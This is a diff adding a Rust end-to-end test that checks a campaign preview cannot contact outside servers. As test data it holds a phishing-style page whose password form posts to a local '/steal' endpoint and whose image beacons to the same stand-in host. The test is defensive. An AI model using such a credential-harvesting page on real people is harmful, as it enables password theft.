@@ -1010,3 +1010,85 @@ async fn a_tab_opened_in_the_background_sends_no_view_until_it_is_shown() {
     assert_eq!(entry["pages_visited"], 1, "visible for 3 s counts: {entry}");
     browser.close().await.unwrap();
 }
+
+/// A stranger's server on loopback that counts whatever reaches it (connections), answering
+/// each with an empty 200.
+fn listening_stranger() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let reached = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counted = reached.clone();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            use std::io::{Read, Write};
+            let mut buffer = [0u8; 4096];
+            let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
+            let _ = stream.read(&mut buffer);
+            let _ = stream
+                .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
+        }
+    });
+    (port, reached)
+}
+
+#[tokio::test]
+async fn a_draft_that_asks_the_owner_to_sign_in_again_can_send_nothing_anywhere() {
+    let Some(driver) = driver("phishing preview").await else {
+        return;
+    };
+    let (port, reached) = listening_stranger();
+    let s = crate::oauth::setup().await;
+    let (server, key, ws) = (&s.server, &s.account.api_key, s.account.workspace_id);
+    let (campaign, _) = create_campaign(server, key, ws, "Phish").await;
+    let draft = format!(
+        r#"<h1>Your session expired</h1>
+<img src="http://127.0.0.1:{port}/seen.png" alt="">
+<form action="http://127.0.0.1:{port}/steal" method="post">
+<label for="pw">Password</label><input id="pw" type="password" name="password">
+<button id="go">Sign in</button></form>"#
+    );
+    server
+        .post(
+            key,
+            "/pages/update-design",
+            json!({"workspace_id": ws, "campaign_id": campaign, "html": draft}),
+        )
+        .await
+        .expect(200);
+    let browser = browser(&driver, true).await;
+    browser
+        .goto(&server.url_of("/dashboard/login"))
+        .await
+        .unwrap();
+    fill(&browser, "#email", "owner@example.com").await;
+    fill(&browser, "#password", crate::oauth::PASSWORD).await;
+    click(&browser, "//button[.='Sign in']").await;
+    browser
+        .goto(&server.url_of(&format!("/dashboard/campaigns/{campaign}/preview")))
+        .await
+        .unwrap();
+    let shown = browser
+        .find(Locator::Css("body"))
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(shown.contains("Your session expired"), "{shown}");
+    fill(&browser, "#pw", "the owner's password").await;
+    let _ = browser
+        .find(Locator::Css("#go"))
+        .await
+        .unwrap()
+        .click()
+        .await;
+    tokio::time::sleep(Duration::from_millis(1_500)).await;
+    assert_eq!(
+        reached.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "the preview reached a stranger's server (an image loaded or the form posted)"
+    );
+    let _ = browser.close().await;
+}
